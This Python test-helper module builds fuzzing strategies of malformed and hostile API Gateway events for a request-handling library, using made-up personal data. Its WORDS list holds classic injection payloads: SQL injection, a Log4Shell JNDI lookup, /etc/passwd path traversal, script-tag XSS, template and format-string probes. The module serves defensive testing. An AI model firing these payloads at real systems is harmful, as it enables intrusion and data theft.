"""What somebody sends who does not mean well, or whose program is broken."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any, NamedTuple

from hypothesis import strategies as st

from affidavit.plugin import RequestLimits
from affidavit.testing import api_gateway_v1, api_gateway_v2
from affidavit_testing.even import evenly
from affidavit_testing.persons import MadeUpPerson


class Hostile(NamedTuple):
    """One such event. `limit` says that a policy's own limit is broken, model or not."""

    event: Any
    via: str
    why: str
    limit: bool = False


WORDS = (
    "",
    " ",
    "\x00",
    "x' or '1'='1",
    "'; drop table notes; --",
    "${jndi:ldap://example.org/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "%s%s%s%n",
    "\ud800",
    "\u202etxt.exe",
    "-1",
    "1e309",
    "NaN",
    "null",
    "true",
    "A" * 5000,
)
"""Texts that programs trip over."""

_CLAIMS = {"claims": {"sub": "user-of-the-authorizer"}}
_JWT = {"jwt": _CLAIMS}


def words() -> st.SearchStrategy[str]:
    """Draw texts that programs trip over."""
    return evenly(WORDS)


def jsons() -> st.SearchStrategy[Any]:
    """Draw any JSON value."""
    leaves = st.none() | st.booleans() | st.integers() | words()
    return st.recursive(
        leaves,
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(words(), inner, max_size=3),
        max_leaves=8,
    )


def hostile_bodies(limits: RequestLimits, person: MadeUpPerson) -> st.SearchStrategy[Hostile]:
    """Draw events that are no requests, a person's data among them."""
    return st.one_of(
        evenly(_broken(limits, person)).map(lambda make: make()),
        jsons().filter(lambda value: not isinstance(value, dict)).map(_as_event),
    )


def _as_event(value: Any) -> Hostile:
    return Hostile(value, "direct", "it is not an object")


def _broken(limits: RequestLimits, person: MadeUpPerson) -> list[Callable[[], Hostile]]:
    """Return what makes each of them: some are large, and only one is drawn at a time."""
    depth = limits.depth + 2
    brackets = f'{{"a":{"[" * depth}"{person.ssn}"{"]" * depth}}}'
    half = f'{{"id":"{person.email}'
    nested: Any = person.ssn
    for _ in range(depth):
        nested = [nested]
    base64 = {"isBase64Encoded": True}
    said = {"id": person.ssn}
    return [
        lambda: _post(brackets, "it is nested too deeply", limit=True),
        lambda: Hostile({"a": nested}, "direct", "it is nested too deeply", limit=True),
        lambda: _post(half, "its body is not JSON"),
        lambda: _post("[1, 2]", "its body is not an object"),
        lambda: _post('{"id": NaN}', "its body holds a number that is none"),
        lambda: _post(b"\xff\xfe{", "its body is not UTF-8"),
        lambda: Hostile(
            {**_post(half, "").event, **base64},
            "api_gateway_v1",
            "its body is marked as base64 and is not",
        ),
        lambda: Hostile(
            api_gateway_v2(method="POST", query={"id": "1"}, body=said, authorizer=_JWT),
            "api_gateway_v2",
            "a field is said twice",
        ),
        lambda: _post(
            json.dumps({"a": person.ssn}) + " " * limits.request_bytes, "too large", limit=True
        ),
    ]


def _post(body: Any, why: str, *, limit: bool = False) -> Hostile:
    event = api_gateway_v1(method="POST", body=body, authorizer=_CLAIMS)
    return Hostile(event, "api_gateway_v1", why, limit=limit)
